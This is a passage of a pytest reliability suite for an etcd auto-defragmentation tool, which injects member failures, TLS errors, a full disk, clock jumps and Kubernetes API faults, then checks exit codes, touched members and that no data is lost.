"""The reliability suite (issue 7): faults on real etcd and on the Kubernetes API, restarts, replicas,
hostile alerts and secrets, and the counts that go into docs/reliability.md.

Which test proves which bullet of the issue (tests elsewhere are listed where they already prove it;
this file adds what they did not):

- Fuzzing the webhook (malformed JSON, wrong schema, oversized bodies, wrong methods and content types,
  missing/wrong credentials; >= 10,000 cases, zero 5xx, zero launches):
  `tests/test_reliability_fuzz.py` (hypothesis, derandomized, 10,000 cases); hand-picked cases in
  `test_webhook.py::test_bad_requests_get_a_4xx_and_a_short_reason`, `::test_authentication` and
  `::test_no_field_of_any_type_makes_a_5xx`.
- Fault injection on real etcd, each checking that every key written before is intact after (data
  lost = 0) and, through a recording proxy in front of every member, which members were touched:
  - a member stopped before the run: `test_a_member_stopped_before_the_run_is_refused_untouched`
    (the CLI exits 3, no mutating request reaches any member); engine level:
    `test_engine.py::test_stopped_member_refuses_and_touches_nothing`; the webhook does not even
    launch: `test_webhook.py::test_paused_and_unhealthy_clusters_launch_nothing`.
  - a member killed mid-run: `test_a_member_killed_mid_run_stops_the_run_exit_1_and_counts_a_failure`
    (alert -> webhook -> local executor -> the real `defrag` child: exit 1, nothing further
    touched, `etcd_autodefrag_runs_total{result="failed"}`); engine level:
    `test_engine.py::test_member_dying_mid_run_stops_the_run` and
    `::test_member_dying_during_its_defrag_fails_that_member`.
  - leadership moved mid-run: `test_leadership_moved_mid_run_the_current_leader_goes_last` (the CLI);
    engine level: `test_engine.py::test_leadership_moving_mid_run_keeps_the_leader_last`.
  - a run exceeding its deadline: `test_a_run_over_its_deadline_stops_cleanly` (the CLI, exit 1, no
    traceback); engine level: `test_engine.py::test_deadline_stops_the_run_cleanly`.
- Faults of issue 14 (item 6), on real etcd, each asserting the error names the member and the cause,
  the exit code, nothing further touched, the lock as docs/locking.md says, and no acknowledged write
  lost: TLS (wrong CA, expired client certificate, server name mismatch):
  `test_tls_failures_refuse_the_run_naming_each_member_and_the_cause`; an unreadable key file:
  `test_an_unreadable_key_file_is_a_configuration_error_naming_the_file`; a full disk during a
  member's defrag (a tmpfs under its database):
  `test_a_member_whose_disk_fills_during_its_defrag_fails_alone`; a member that accepts and never
  answers: `test_a_member_that_accepts_and_never_answers_stops_the_run`;
  a wall-clock jump mid-run: `test_a_wall_clock_jump_mid_run_moves_no_deadline`.
- Kubernetes API faults (500s, timeouts, 409s, slow responses; 503 when nothing was recorded, never
  two Jobs for one cluster): `test_kubernetes_api_faults_answer_503_until_a_job_is_recorded`;
  the storm with faults, two replicas and a restart:
  `test_two_replicas_a_restart_and_api_faults_create_one_job_per_cluster`; also
  `test_webhook.py::test_kubernetes_api_failures_map_to_the_retry_contract`,
  `::test_kubernetes_unreachable_answers_503`, `test_kube.py::test_retryable_failures_are_unavailable`,
  `::test_a_slow_answer_within_the_timeout_is_fine`,
  `::test_concurrent_creates_make_exactly_one_job_per_cluster`.
- Restart and two replicas sharing one fake API server, no duplicate Job:
  `test_two_replicas_a_restart_and_api_faults_create_one_job_per_cluster`;
  `test_webhook.py::test_kubernetes_restart_between_posts_creates_no_second_job`,
  `::test_kubernetes_1000_concurrent_posts_for_10_clusters_create_10_jobs`; for the local executor
  `::test_a_restarted_service_sees_the_run_and_records_its_end` and
  `::test_two_services_on_one_host_launch_one_run_per_cluster`.
- Security: `test_alert_labels_cannot_choose_a_cluster_namespace_image_or_command` (end to end,
  the Job created in the fake API server); `test_tokens_never_reach_the_logs` (captured logs of
  every request shape, in text and JSON format); pure level:
  `test_routing.py::test_alert_labels_only_choose_among_configured_clusters`,
  `test_jobs.py::test_hostile_alert_text_never_shapes_the_job`; the fuzz test of credentials
  asserts on its captured logs too.

Counts: every test adds what it tried and saw to the session's tally (`reliability_counts`,
tests/reliability_counts.py), written to `build/reliability-counts.json` and printed at the end.
"""

from __future__ import annotations

import asyncio
import base64
import io
import json
import logging
import shutil
import subprocess
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import aiohttp
import pytest
import trustme
import yaml
from aiohttp import web
from aiohttp.test_utils import TestClient
from etcd_harness import EtcdCluster, EtcdMember
from fake_kube import FakeKube
from kubernetes_asyncio.client import ApiClient
from reliability_counts import Counts
from test_engine import lock_holder
from test_webhook import (
    AUTH,
    TOKEN,
    FakeExecutor,
    alert,
    clusters,
    eventually,
    notification,
    outcomes,
    post,
    scrape,
)
from test_webhook import settings as service_settings

from exporter import logs
from exporter.config.settings import ClusterConfig
from exporter.core import clock
from exporter.core.handoff import cluster_from_json
from exporter.core.report import RunResult
from exporter.defrag.engine import DefragEngine
from exporter.etcd.client import EtcdClient
from exporter.kubernetes.api import kube_api_client
from exporter.launch.kubernetes import KubernetesExecutor
from exporter.launch.local import LocalExecutor
from exporter.service.app import create_app

pytestmark = pytest.mark.etcd

ClientFactory = Callable[..., Awaitable[TestClient]]
REPO = Path(__file__).resolve().parent.parent
# Requests that act on a member: defragment, compact, disarm an alarm, move the leader. Reads (status,
# member list, range, health, listing the alarms) are not, nor the engine's own lock key if it keeps
# one in etcd: no user key is written or deleted by a run (check_data proves that separately).
MUTATING = (
    "/v3/maintenance/defragment",
    "/v3/kv/compaction",
    "/v3/maintenance/alarm",
    "/v3/maintenance/transfer-leadership",
)
DEFRAG = "/v3/maintenance/defragment"
ALARM = "/v3/maintenance/alarm"
JSON = {"Content-Type": "application/json"}


@pytest.fixture(autouse=True)
def _no_stray_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    # The executor kind `auto` looks at KUBERNETES_SERVICE_HOST: keep CI pods from changing the tests.
    monkeypatch.delenv("KUBERNETES_SERVICE_HOST", raising=False)


# --- a recording proxy in front of every etcd member -----------------------------------------------

Hook = Callable[["EtcdMember", int], Awaitable[None]]


@dataclass
class Proxies:
    """One HTTP proxy per member, recording every request the engine makes and pausing where told.

    The engine talks to etcd's JSON gateway over HTTP and waits for each answer, so a hook that runs
    after etcd answered a defragment and before the proxy passes the answer on acts at an exact
    point of the run: nothing races it.
    """

    cluster: EtcdCluster
    urls: dict[str, str] = field(default_factory=dict)  # member name -> proxy URL
    seen: list[tuple[str, str]] = field(default_factory=list)  # (member name, path), in order
    before_defrag: Hook | None = None
    after_defrag: Hook | None = None
    _runners: list[web.AppRunner] = field(default_factory=list)
    _session: aiohttp.ClientSession | None = None

    async def start(self) -> None:
        self._session = aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=120))
        for member in self.cluster.members:
            app = web.Application(client_max_size=64 * 1024 * 1024)
            app.router.add_route("*", "/{tail:.*}", self._handler(member))
            runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.5)
            await runner.setup()
            await web.TCPSite(runner, "127.0.0.1", 0).start()
            self._runners.append(runner)
            self.urls[member.name] = f"http://127.0.0.1:{runner.addresses[0][1]}"

    async def close(self) -> None:
        for runner in self._runners:
            await runner.cleanup()
        if self._session is not None:
            await self._session.close()

    def _handler(self, member: EtcdMember) -> Callable[[web.Request], Awaitable[web.StreamResponse]]:
        async def forward(request: web.Request) -> web.StreamResponse:
            assert self._session is not None
            body = await request.read()
            path = request.path
            if path == ALARM and json.loads(body or b"{}").get("action", "GET") == "GET":
                path += " (list)"  # listing the alarms reads; deactivating one changes the member
            self.seen.append((member.name, path))
            index = self.defrags() - 1
            if path == DEFRAG and self.before_defrag is not None:
                await self.before_defrag(member, index)
            try:
                async with self._session.request(
                    request.method,
                    member.client_url + request.path_qs,
                    data=body,
                    headers={"Content-Type": request.headers.get("Content-Type", "application/json")},
                ) as answer:
                    payload = await answer.read()
                    status = answer.status
            except aiohttp.ClientError:
                raise web.HTTPBadGateway(text="member unreachable") from None
            if request.path == DEFRAG and self.after_defrag is not None:
                await self.after_defrag(member, index)
            return web.Response(body=payload, status=status, content_type="application/json")

        return forward

    def touched(self) -> list[tuple[str, str]]:
        """Every mutating request, in order."""
        return [(name, path) for name, path in self.seen if path in MUTATING]

    def defragmented(self) -> list[str]:
        """The members that received a defragment request, in order."""
        return [name for name, path in self.seen if path == DEFRAG]

    def defrags(self) -> int:
        return len(self.defragmented())


@pytest.fixture
async def proxies(fresh_etcd_cluster: EtcdCluster) -> AsyncIterator[Proxies]:
    fresh_etcd_cluster.churn(keys=100, rounds=2)  # free pages on every member: "dbSizeFree > 0" selects all
    proxy = Proxies(fresh_etcd_cluster)
    await proxy.start()
    try:
        yield proxy
    finally:
        await proxy.close()


# --- data written before, checked after ------------------------------------------------------------

DATA_PREFIX = "/reliability/"
DATA_KEYS = 500


def _b64(data: str | bytes) -> str:
    return base64.b64encode(data.encode() if isinstance(data, str) else data).decode()


def write_data(cluster: EtcdCluster) -> dict[str, bytes]:
    """DATA_KEYS keys with distinct values, some written twice (history a defrag must keep the last of)."""
    data = {f"{DATA_PREFIX}{i:04d}": f"value-{i}-{'x' * (i % 97)}".encode() for i in range(DATA_KEYS)}
    cluster.put_many((key, b"first version") for key in list(data)[:100])
    cluster.put_many(data.items())
    return data


def read_data(cluster: EtcdCluster, member: EtcdMember) -> dict[str, bytes]:
    """Every key under the prefix, read from this one member (linearizable: what it has applied)."""
    end = DATA_PREFIX[:-1] + chr(ord(DATA_PREFIX[-1]) + 1)
    answer = cluster.request(
        "/v3/kv/range", {"key": _b64(DATA_PREFIX), "range_end": _b64(end)}, endpoint=member.client_url
    )
    return {
        base64.b64decode(kv["key"]).decode(): base64.b64decode(kv.get("value", "")) for kv in answer["kvs"]
    }


def check_data(cluster: EtcdCluster, data: dict[str, bytes], counts: Counts) -> None:
    """Every running member has every key with its last value: data lost = 0."""
    for member in cluster.running_members():
        found = read_data(cluster, member)
        lost = sum(found.get(key) != value for key, value in data.items())
        counts.add("keys_checked", len(data))
        counts.add("data_lost", lost)
        assert lost == 0, f"{member.name}: {lost} of {len(data)} keys missing or changed"
        assert len(found) == len(data), f"{member.name}: unexpected keys"


def write_config(path: Path, proxies: Proxies, **options: Any) -> Path:
    """A config naming the cluster `t` by its proxies only (no discovery: every request goes through them)."""
    cluster = {
        "name": "t",
        "endpoints": list(proxies.urls.values()),
        "discover_members": False,
        "rule": "dbSizeFree > 0",
        "request_timeout_seconds": 2,
        "health_timeout_seconds": 20,
        "settle_seconds": 0,  # the cluster started seconds ago: no rollout gate
        **options,
    }
    path.write_text(yaml.safe_dump({"clusters": [cluster]}))
    return path


@dataclass
class Finished:
    code: int
    report: dict[str, Any]
    stderr: str


async def run_cli_config(config: Path, *extra: str) -> tuple[int, dict[str, Any] | None, str]:
    """`defrag --cluster t` as a process: exit code, the JSON report (None when it printed none), stderr."""
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "exporter",
        "defrag",
        "--config",
        str(config),
        "--cluster",
        "t",
        "--output",
        "json",
        *extra,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
        cwd=REPO,
    )
    async with asyncio.timeout(120):
        stdout, stderr = await process.communicate()
    assert process.returncode is not None
    return process.returncode, json.loads(stdout) if stdout.strip() else None, stderr.decode()


async def run_cli(config: Path, *extra: str) -> Finished:
    """`etcd-autodefrag defrag --cluster t` as a process, while this loop serves the proxies."""
    code, report, stderr = await run_cli_config(config, *extra)
    assert report is not None, f"no report (exit {code}): {stderr}"
    return Finished(code, report, stderr)


def member_id(member: EtcdMember) -> int:
    return int(member.status()["header"]["member_id"])


# --- fault injection on real etcd ------------------------------------------------------------------


async def test_a_member_stopped_before_the_run_is_refused_untouched(
    proxies: Proxies, tmp_path: Path, reliability_counts: Counts
) -> None:
    cluster = proxies.cluster
    data = write_data(cluster)
    stopped = next(m for m in cluster.members if m is not cluster.leader())
    await asyncio.to_thread(stopped.stop)
    reliability_counts.fault("etcd member stopped before a run")

    run = await run_cli(write_config(tmp_path / "config.yaml", proxies))

    assert run.code == 3, run.stderr
    assert run.report["result"] == "refused"
    assert proxies.urls[stopped.name] in run.report["reason"]  # the stopped member, as configured
    assert proxies.touched() == []  # not one defragment, compaction, disarm or leader move
    assert "Traceback" not in run.stderr
    check_data(cluster, data, reliability_counts)


async def test_a_member_killed_mid_run_stops_the_run_exit_1_and_counts_a_failure(
    proxies: Proxies, tmp_path: Path, aiohttp_client: ClientFactory, reliability_counts: Counts
) -> None:
    """The whole chain: alert, webhook, local executor, the real `defrag` child, the run metrics."""
    cluster = proxies.cluster
    data = write_data(cluster)
    leader = cluster.leader()
    killed: list[EtcdMember] = []

    async def kill_another_follower(member: EtcdMember, index: int) -> None:
        if index == 0:  # the first member is defragmented; before the engine hears so, one dies
            victim = next(m for m in cluster.members if m is not leader and m is not member)
            await asyncio.to_thread(victim.kill)
            killed.append(victim)

    proxies.after_defrag = kill_another_follower
    config = write_config(tmp_path / "config.yaml", proxies)
    exit_file = tmp_path / "exit-code"
    executor = LocalExecutor(
        state_dir=tmp_path / "state",
        cooldown_seconds=3600,
        # The real engine, with its exit status kept: `sh -c '... "$@"' sh ARGS` runs it with the
        # executor's arguments and writes the code the service itself does not keep.
        command=[
            "sh",
            "-c",
            f'{sys.executable} -m exporter "$@"; code=$?; echo $code > {exit_file}; exit $code',
            "sh",
        ],
        reconcile_interval_seconds=0.05,
    )
    cluster_config = ClusterConfig.model_validate(yaml.safe_load(config.read_text())["clusters"][0])
    client = await aiohttp_client(
        create_app(service_settings(), clusters=[cluster_config], executor=executor)
    )
    status, body = await post(client, notification(alert("t")))
    assert (status, outcomes(body)) == (200, ["launch"])

    async def recorded() -> bool:
        metrics = await scrape(client)
        return metrics.value("etcd_autodefrag_runs_total", etcd_cluster="t", result="failed") == 1

    await eventually(recorded, timeout=60, what='runs_total{result="failed"}')
    reliability_counts.fault("etcd member killed mid-run")
    assert exit_file.read_text().strip() == "1"
    report = json.loads((tmp_path / "state" / "t.report.json").read_text())
    assert report["result"] == "failed"
    assert "unhealthy" in report["reason"]
    # Nothing after the failure was touched: one defragment in all, the leader's never sent.
    assert len(proxies.defragmented()) == 1
    assert [path for _, path in proxies.touched()] == [DEFRAG]
    assert leader.name not in proxies.defragmented()
    assert (await scrape(client)).value("etcd_autodefrag_runs_in_flight", etcd_cluster="t") == 0
    check_data(cluster, data, reliability_counts)
    # The killed member comes back with every key too.
    await asyncio.to_thread(cluster.start)
    check_data(cluster, data, reliability_counts)


async def test_leadership_moved_mid_run_the_current_leader_goes_last(
    proxies: Proxies, tmp_path: Path, reliability_counts: Counts
) -> None:
    cluster = proxies.cluster
    data = write_data(cluster)
    old_leader = cluster.leader()
    moved_to: list[EtcdMember] = []

    async def move_leadership(member: EtcdMember, index: int) -> None:
        if index != 0:
            return
        # To the follower the plan visits next: it must now wait until last.
        target = next(m for m in cluster.members if m is not old_leader and m is not member)
        payload = {"targetID": str(member_id(target))}
        await asyncio.to_thread(
            cluster.request, "/v3/maintenance/transfer-leadership", payload, endpoint=old_leader.client_url
        )
        await asyncio.to_thread(cluster.wait, lambda: cluster.leader() is target, timeout=10, what="leader")
        moved_to.append(target)

    proxies.after_defrag = move_leadership
    run = await run_cli(write_config(tmp_path / "config.yaml", proxies))
    reliability_counts.fault("etcd leadership moved mid-run")

    assert run.code == 0, run.stderr
    assert run.report["result"] == "success"
    order = proxies.defragmented()
    assert sorted(order) == sorted(m.name for m in cluster.members)
    assert order[-1] == moved_to[0].name  # the leader at that time went last
    assert order[1] == old_leader.name
    assert "leadership moved" in run.stderr
    check_data(cluster, data, reliability_counts)


async def test_a_run_over_its_deadline_stops_cleanly(
    proxies: Proxies, tmp_path: Path, reliability_counts: Counts
) -> None:
    cluster = proxies.cluster
    data = write_data(cluster)
    release = asyncio.Event()

    async def hang_the_second(member: EtcdMember, index: int) -> None:
        if index == 1:
            await release.wait()  # a defragment that does not answer before the deadline

    proxies.before_defrag = hang_the_second
    config = write_config(tmp_path / "config.yaml", proxies, deadline_seconds=4, member_timeout_seconds=4)
    try:
        run = await run_cli(config)
    finally:
        release.set()
    reliability_counts.fault("defrag run over its deadline")

    assert run.code == 1, run.stderr
    assert run.report["result"] == "failed"
    assert "deadline of 4s exceeded" in run.report["reason"]
    assert [m["outcome"] for m in run.report["members"]] == ["defragmented", "failed", "not_reached"]
    assert "Traceback" not in run.stderr
    # The third member was never asked: two defragment requests (the second held at the proxy).
    assert len(proxies.defragmented()) == 2
    check_data(cluster, data, reliability_counts)


# --- faults never injected before issue 14: TLS, a full disk, a silent member, a clock jump ---------


def tls_config(path: Path, cluster: EtcdCluster, **tls: Any) -> Path:
    """A config for the TLS cluster `t`, with the cluster's own client TLS files unless overridden."""
    assert cluster.tls is not None
    files = {
        "ca_file": cluster.tls.ca_file,
        "cert_file": cluster.tls.cert_file,
        "key_file": cluster.tls.key_file,
    }
    options = {
        "name": "t",
        "endpoints": cluster.endpoints,
        "discover_members": False,
        "rule": "dbSizeFree > 0",
        "request_timeout_seconds": 2,
        "settle_seconds": 0,
        "tls": {k: str(v) for k, v in {**files, **tls}.items()},
    }
    path.write_text(yaml.safe_dump({"clusters": [options]}))
    return path


def sizes(cluster: EtcdCluster) -> dict[str, int]:
    return {m.name: int(m.status()["dbSize"]) for m in cluster.members}


@pytest.mark.parametrize("fault", ["wrong CA", "expired client certificate", "server name mismatch"])
async def test_tls_failures_refuse_the_run_naming_each_member_and_the_cause(
    tls_etcd_cluster: EtcdCluster, tmp_path: Path, fault: str, reliability_counts: Counts
) -> None:
    cluster = tls_etcd_cluster
    assert cluster.tls is not None
    cluster.churn(keys=50, rounds=2)  # free pages everywhere: the rule would select every member
    data = {f"{DATA_PREFIX}tls/{i}": f"v{i}".encode() for i in range(50)}
    cluster.put_many(data.items())
    revision, before = cluster.revision(), sizes(cluster)
    if fault == "wrong CA":
        other = trustme.CA()
        other.cert_pem.write_to_path(str(tmp_path / "other-ca.pem"))
        config, cause = (
            tls_config(tmp_path / "c.yaml", cluster, ca_file=tmp_path / "other-ca.pem"),
            "the member's certificate is not trusted",
        )
    elif fault == "expired client certificate":
        ca = trustme.CA.from_pem(
            cluster.tls.ca_file.read_bytes(), (cluster.tls.ca_file.parent / "ca-key.pem").read_bytes()
        )
        yesterday = datetime.now(UTC) - timedelta(days=1)
        expired = ca.issue_cert(
            "etcd-autodefrag", not_before=yesterday - timedelta(days=30), not_after=yesterday
        )
        expired.cert_chain_pems[0].write_to_path(str(tmp_path / "expired.pem"))
        expired.private_key_pem.write_to_path(str(tmp_path / "expired-key.pem"))
        config = tls_config(
            tmp_path / "c.yaml",
            cluster,
            cert_file=tmp_path / "expired.pem",
            key_file=tmp_path / "expired-key.pem",
        )
        cause = "certificate"  # etcd ends the handshake with an alert ("bad certificate" or "expired")
    else:
        config, cause = (
            tls_config(tmp_path / "c.yaml", cluster, server_name="etcd.example.com"),
            "Hostname mismatch",
        )

    code, report, stderr = await run_cli_config(config)
    reliability_counts.fault(f"TLS: {fault}")

    assert code == 3, stderr
    assert report is not None
    assert report["result"] == "refused"
    assert "Traceback" not in stderr
    # Each member's URL is named with the cause (without discovery every endpoint is asked in turn).
    assert "no configured endpoint answered" in report["reason"]
    for endpoint in cluster.endpoints:
        assert endpoint in report["reason"]
    assert report["reason"].count(cause) >= 1, report["reason"]
    # Not one request reached etcd's API: nothing defragmented, no lock key written.
    assert cluster.revision() == revision
    assert all(sizes(cluster)[name] >= size for name, size in before.items())
    prefix = f"{DATA_PREFIX}tls/"
    found = {prefix + key: value for key, value in cluster.keys_with_prefix(prefix).items()}
    reliability_counts.add("keys_checked", len(data))
    reliability_counts.add("data_lost", sum(found.get(k) != v for k, v in data.items()))
    assert found == data


async def test_an_unreadable_key_file_is_a_configuration_error_naming_the_file(
    tls_etcd_cluster: EtcdCluster, tmp_path: Path, reliability_counts: Counts
) -> None:
    cluster = tls_etcd_cluster
    assert cluster.tls is not None
    revision = cluster.revision()
    # A Secret half-rotated: the key file is there but holds no key (root reads any file, so a
    # mode of 000 would not make it unreadable for the tests; a truncated PEM does for everyone).
    key = tmp_path / "tls.key"
    key.write_text(cluster.tls.key_file.read_text()[:40])
    code, report, stderr = await run_cli_config(tls_config(tmp_path / "c.yaml", cluster, key_file=key))
    reliability_counts.fault("TLS: unreadable key file")
    assert code == 2, stderr  # docs/cli.md exit codes: bad configuration
    assert report is None
    assert f"cluster t: tls.key_file {key}: its PEM private key cannot be parsed" in stderr
    assert "Traceback" not in stderr
    assert cluster.revision() == revision


@pytest.fixture
def mount_tmpfs() -> Iterator[Callable[[Path, int], None]]:
    """Mounts a tmpfs of a size at a path (unmounted at teardown); skips when mounting is not permitted."""
    mounted: list[Path] = []

    def mount(path: Path, size_bytes: int) -> None:
        path.mkdir(parents=True, exist_ok=True)
        result = subprocess.run(
            ["mount", "-t", "tmpfs", "-o", f"size={size_bytes}", "tmpfs", str(path)],
            capture_output=True,
            text=True,
            check=False,
        )
        if result.returncode != 0:
            pytest.skip(
                f"cannot mount a tmpfs here (needs root and mount permission): {result.stderr.strip()}"
            )
        mounted.append(path)

    yield mount
    for path in mounted:  # lazily: a member still running keeps its files until the cluster is killed
        subprocess.run(["umount", "-l", str(path)], capture_output=True, check=False)


async def test_a_member_whose_disk_fills_during_its_defrag_fails_alone(
    proxies: Proxies, tmp_path: Path, mount_tmpfs: Callable[[Path, int], None], reliability_counts: Counts
) -> None:
    """The first member's database directory on a tmpfs with room for its file but not for the copy."""
    cluster = proxies.cluster
    data = write_data(cluster)
    leader = cluster.leader()
    full = min((m for m in cluster.members if m is not leader), key=lambda m: m.name)  # visited first
    status = full.status()
    size, in_use = int(status["dbSize"]), int(status["dbSizeInUse"])
    await asyncio.to_thread(full.stop)
    snap = full.data_dir / "member" / "snap"
    saved = tmp_path / "snap-saved"
    shutil.copytree(snap, saved)
    page = 4096
    # What the directory holds (the database, and on 3.5+ etcd's .snap files too), plus a quarter of
    # what the new, compacted copy needs: defrag writes that copy next to the file.
    held = sum(-(-item.stat().st_size // page) * page for item in saved.iterdir())
    assert held >= size
    mount_tmpfs(snap, (held + in_use // 4) // page * page + 16 * page)
    for item in saved.iterdir():
        shutil.copy2(item, snap / item.name)
    await asyncio.to_thread(cluster.start)
    write_more = {f"{DATA_PREFIX}late/{i}": b"x" for i in range(5)}  # acknowledged after the restart
    cluster.put_many(write_more.items())
    data.update(write_more)

    run = await run_cli(write_config(tmp_path / "config.yaml", proxies))
    reliability_counts.fault("disk full during a member's defrag")

    assert run.code == 1, run.stderr
    assert run.report["result"] == "failed"
    assert run.report["reason"] == f"defragmentation failed on {full.name}"
    (failed,) = [m for m in run.report["members"] if m["outcome"] == "failed"]
    assert failed["name"] == full.name
    assert "no space left on device" in failed["reason"]
    assert proxies.touched() == [(full.name, DEFRAG)]  # nothing after it
    assert lock_holder(cluster) is None  # etcd answered: no defrag in flight, the lock given back
    assert "Traceback" not in run.stderr
    # etcd < 3.4.35 / 3.5.17 then panics at its next write (etcd-io/etcd#18810, fixed by #18822): the
    # old file is intact, and the WAL is on another disk. Given room, the member comes back whole.
    if not full.running:
        assert "no space left on device" in full.log_tail(200)
        reliability_counts.add("etcd_crashed_after_a_full_disk_defrag", 1)
    check_data(cluster, data, reliability_counts)
    await asyncio.to_thread(
        subprocess.run, ["mount", "-o", f"remount,size={4 * held}", str(snap)], check=True
    )
    await asyncio.to_thread(cluster.start)
    check_data(cluster, data, reliability_counts)


@dataclass
class SilentProxy:
    """A TCP proxy in front of one member that, once `silence()`d, accepts and reads but never answers.

    A network partition as a client sees it: connections open, requests go out, nothing comes back
    (unlike a stopped member, which refuses the connection). Connections already open fall silent too.
    """

    target_port: int
    silent: bool = False
    url: str = ""
    _server: asyncio.Server | None = None
    _tasks: set[asyncio.Task[None]] = field(default_factory=set)

    async def start(self) -> None:
        self._server = await asyncio.start_server(self._connection, "127.0.0.1", 0)
        self.url = f"http://127.0.0.1:{self._server.sockets[0].getsockname()[1]}"

    def silence(self) -> None:
        self.silent = True

    async def close(self) -> None:
        for task in self._tasks:
            task.cancel()
        if self._server is not None:
            self._server.close()

    async def _connection(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        upstream_reader, upstream_writer = await asyncio.open_connection("127.0.0.1", self.target_port)

        async def pipe(source: asyncio.StreamReader, sink: asyncio.StreamWriter) -> None:
            while chunk := await source.read(65536):
                if not self.silent:  # silent: swallow everything, answer nothing, close nothing
                    sink.write(chunk)
                    await sink.drain()

        for task in (
            asyncio.create_task(pipe(reader, upstream_writer)),
            asyncio.create_task(pipe(upstream_reader, writer)),
        ):
            self._tasks.add(task)
            task.add_done_callback(self._tasks.discard)


async def test_a_member_that_accepts_and_never_answers_stops_the_run(
    proxies: Proxies, tmp_path: Path, reliability_counts: Counts
) -> None:
    cluster = proxies.cluster
    data = write_data(cluster)
    leader = cluster.leader()
    first, second = sorted((m for m in cluster.members if m is not leader), key=lambda m: m.name)
    silent = SilentProxy(int(proxies.urls[second.name].rsplit(":", 1)[1]))
    await silent.start()

    async def partition_the_next(member: EtcdMember, index: int) -> None:
        if index == 0:
            silent.silence()

    proxies.after_defrag = partition_the_next
    endpoints = [proxies.urls[first.name], silent.url, proxies.urls[leader.name]]
    try:
        run = await run_cli(write_config(tmp_path / "config.yaml", proxies, endpoints=endpoints))
    finally:
        await silent.close()
    reliability_counts.fault("etcd member accepts and never answers mid-run")

    assert run.code == 1, run.stderr
    assert run.report["result"] == "failed"
    assert f"member {second.name} failed a linearizable read" in run.report["reason"]
    assert "no answer within 2s" in run.report["reason"]
    assert proxies.touched() == [(first.name, DEFRAG)]  # the silent member and the leader untouched
    assert lock_holder(cluster) is None  # given back through the members that answer
    assert "Traceback" not in run.stderr
    check_data(cluster, data, reliability_counts)


async def test_a_wall_clock_jump_mid_run_moves_no_deadline(
    proxies: Proxies, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, reliability_counts: Counts
) -> None:
    """Deadlines and durations run on the monotonic clock: the wall clock 2 h forward changes nothing."""
    cluster = proxies.cluster
    data = write_data(cluster)
    jump = timedelta(hours=2)
    jumped: list[datetime] = []
    real_utcnow = clock.utcnow

    def wall_clock() -> datetime:
        return real_utcnow() + (jump if jumped else timedelta(0))

    monkeypatch.setattr(clock, "utcnow", wall_clock)  # exporter.core.clock is the one source of time

    async def jump_forward(member: EtcdMember, index: int) -> None:
        if index == 0:
            jumped.append(clock.utcnow())

    proxies.after_defrag = jump_forward
    cluster_config = ClusterConfig.model_validate(
        yaml.safe_load(
            write_config(
                tmp_path / "c.yaml", proxies, deadline_seconds=60, member_timeout_seconds=30
            ).read_text()
        )["clusters"][0]
    )
    async with aiohttp.ClientSession() as session:
        report = await DefragEngine(EtcdClient(session, timeout_seconds=2), cluster_config).run()
    reliability_counts.fault("wall clock jumped 2 h forward mid-run")

    assert jumped, "the jump never happened"
    assert report.result is RunResult.SUCCESS, report.reason  # a wall-clock deadline would have passed
    assert report.exit_code == 0
    assert [m.outcome.value for m in report.members] == ["defragmented"] * 3
    assert report.duration_seconds < 60  # measured on the monotonic clock, not 2 h
    assert len(proxies.defragmented()) == 3
    assert lock_holder(cluster) is None
    check_data(cluster, data, reliability_counts)


# --- Kubernetes API faults, replicas, restarts -------------------------------------------------------

NAMESPACE = "etcd"
IMAGE = "ghcr.io/etcd-autodefrag/etcd-autodefrag:test"
CREATE = f"POST /apis/batch/v1/namespaces/{NAMESPACE}/jobs"


def kube_clusters(etcd: EtcdCluster, count: int) -> list[ClusterConfig]:
    return clusters(etcd, count, kubernetes={"namespace": NAMESPACE, "variant": "plain"})


def kube_executor(api: ApiClient, *, timeout: float = 5, watch: bool = True) -> KubernetesExecutor:
    """`watch=False`: no watch until the first launch, so another replica's Job is only met as a 409."""
    return KubernetesExecutor(
        api_client=api,
        image=IMAGE,
        cooldown_seconds=3600,
        timeout_seconds=timeout,
        namespaces=[NAMESPACE] if watch else [],
    )


def jobs_per_cluster(fake: FakeKube) -> dict[str, int]:
    found: dict[str, int] = {}
    for job in fake.jobs.values():
        cluster = job["metadata"]["labels"]["etcd-autodefrag.io/cluster"]
        found[cluster] = found.get(cluster, 0) + 1
    return found


@pytest.mark.parametrize(
    ("fault", "first", "recorded_on_503"),
    [
        ("500", 503, False),
        ("503", 503, False),
        ("504", 503, False),
        ("429", 503, False),
        ("timeout", 503, False),  # no answer at all
        ("slow", 200, False),  # answered within the timeout
        ("too slow", 503, True),  # created after the client gave up: the retry finds it
        ("409", 200, False),  # another replica's Job already there
        ("500 on the read after a 409", 503, True),
    ],
)
async def test_kubernetes_api_faults_answer_503_until_a_job_is_recorded(
    etcd: EtcdCluster,
    aiohttp_client: ClientFactory,
    fake_kube: FakeKube,
    kube_api: ApiClient,
    fault: str,
    first: int,
    recorded_on_503: bool,
    reliability_counts: Counts,
) -> None:
    client = await aiohttp_client(
        create_app(
            service_settings(),
            clusters=kube_clusters(etcd, 1),
            # The watch would see the other replica's running Job before the post; these cases are
            # about the create and the read after its 409.
            executor=kube_executor(kube_api, timeout=1, watch=False),
        )
    )
    if fault.isdigit():
        fake_kube.fail_next(1, int(fault), match=CREATE)
    elif fault == "timeout":
        fake_kube.hang_next(1, match=CREATE)
    elif fault == "slow":
        fake_kube.delay_next(1, 0.3, match=CREATE)
    elif fault == "too slow":
        fake_kube.delay_next(1, 1.5, match=CREATE)
    else:  # a 409: the Job exists, created by another replica through its own client
        async with await kube_api_client(host=fake_kube.url) as other:
            other_client = await aiohttp_client(
                create_app(service_settings(), clusters=kube_clusters(etcd, 1), executor=kube_executor(other))
            )
            assert outcomes((await post(other_client, notification(alert("c0"))))[1]) == ["launch"]
            await other_client.close()
        if fault != "409":
            fake_kube.fail_next(1, 500, match=f"GET /apis/batch/v1/namespaces/{NAMESPACE}/jobs/")
    reliability_counts.fault(f"Kubernetes API: {fault}")

    status, body = await post(client, notification(alert("c0")))
    assert status == first, body
    if status == 503:
